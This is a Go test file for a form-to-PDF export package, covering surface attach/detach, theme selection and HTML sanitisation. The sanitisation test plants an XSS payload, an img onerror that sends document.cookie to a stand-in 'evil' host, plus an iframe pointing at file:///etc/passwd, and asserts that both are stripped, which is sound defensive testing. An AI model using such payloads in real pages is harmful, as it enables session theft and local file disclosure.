package export

import (
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/a3tai/mcp-form-export/internal/form"
)

func TestSurface_AttachDetach(t *testing.T) {
	tree, err := form.ParseHTMLString(`<div class="visite-card pdf-force-light"><p>x</p></div>`, form.ParseOptions{RootClass: form.DefaultRootClass})
	require.NoError(t, err)

	s := NewSurface()
	theme := ThemeFor(tree)
	require.True(t, theme.Light)

	m := s.Attach(tree, theme)
	assert.Equal(t, 1, s.Len())

	doc, err := m.Document()
	require.NoError(t, err)
	assert.Contains(t, doc, `id="tmpPdfExport"`)
	assert.Contains(t, doc, "pdf-export")
	assert.Contains(t, doc, "pdf-light-mode")
	assert.Contains(t, doc, ".pdf-light-mode img")

	s.Detach(m.ID)
	s.Detach(m.ID)
	assert.Zero(t, s.Len())
}

func TestThemeFor(t *testing.T) {
	assert.False(t, ThemeFor(nil).Light)
	assert.Len(t, defaultTheme.Styles(), 1)
	assert.Equal(t, "#073763", hexColor(defaultTheme.Heading))
}

func TestMount_DocumentIsSanitised(t *testing.T) {
	tree := &form.Tree{Root: &form.Node{Kind: form.KindContainer, Tag: "div", Classes: []string{"visite-card"}}}
	tree.Root.AppendChild(&form.Node{
		Kind:  form.KindImage,
		Tag:   "img",
		Attrs: map[string]string{"onerror": "fetch('http://evil/'+document.cookie)"},
		Image: &form.Image{Src: "x", Alt: "photo"},
	})
	frame := &form.Node{Kind: form.KindContainer, Tag: "iframe", Attrs: map[string]string{"src": "file:///etc/passwd"}}
	tree.Root.AppendChild(frame)
	tree.Root.AppendChild(&form.Node{Kind: form.KindText, Text: "Nom"})

	s := NewSurface()
	m := s.Attach(tree, ThemeFor(tree))
	defer s.Detach(m.ID)

	doc, err := m.Document()
	require.NoError(t, err)
	assert.NotContains(t, doc, "onerror")
	assert.NotContains(t, doc, "document.cookie")
	assert.NotContains(t, doc, "<iframe")
	assert.NotContains(t, doc, "file:///etc/passwd")
	assert.Contains(t, doc, `id="tmpPdfExport"`)
	assert.Contains(t, doc, "Nom")
}
